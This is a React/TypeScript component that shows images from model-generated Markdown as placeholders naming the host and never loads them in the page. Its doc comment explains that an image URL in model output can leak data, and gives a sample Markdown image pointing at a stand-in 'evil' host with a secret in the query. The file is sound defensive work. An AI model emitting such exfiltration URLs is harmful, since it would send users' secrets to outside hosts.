'use client';

import { loadableImageUrl } from '@/lib/math/safe-url';
import styles from './MathMarkdown.module.css';

interface RemoteImageProps {
  src?: string;
  alt?: string;
}

/**
 * An image from rendered text, never loaded in the page: an image URL in model output can
 * carry data to its host (`![](https://evil/?q=secret)`), and the CSP (`img-src 'self' data:
 * blob:`) would block it anyway. The placeholder names the host; a click opens the image in
 * a new tab — the reader's own navigation, without opener or referrer, outside our CSP.
 * Only absolute http(s) URLs can be opened; anything else stays a label.
 */
export function RemoteImage({ src = '', alt = '' }: RemoteImageProps) {
  const url = loadableImageUrl(src);
  if (!url) {
    return (
      <span className={`math-image-blocked ${styles.blockedImage ?? ''}`} title={src}>
        {`[image${alt ? `: ${alt}` : ''}]`}
      </span>
    );
  }
  return (
    // A button, not a link: an image may sit inside a Markdown link, and links cannot nest.
    <button
      type="button"
      className={`math-image-placeholder ${styles.imagePlaceholder ?? ''}`}
      title={`Not loaded here. Click to open ${url.href} in a new tab.`}
      data-image-url={url.href}
      onClick={(event) => {
        event.preventDefault(); // inside a link, opening the image must not also follow it
        event.stopPropagation();
        window.open(url.href, '_blank', 'noopener,noreferrer');
      }}
    >
      {`Image from ${url.host}${alt ? ` (${alt})` : ''} — not loaded; open in a new tab ↗`}
    </button>
  );
}
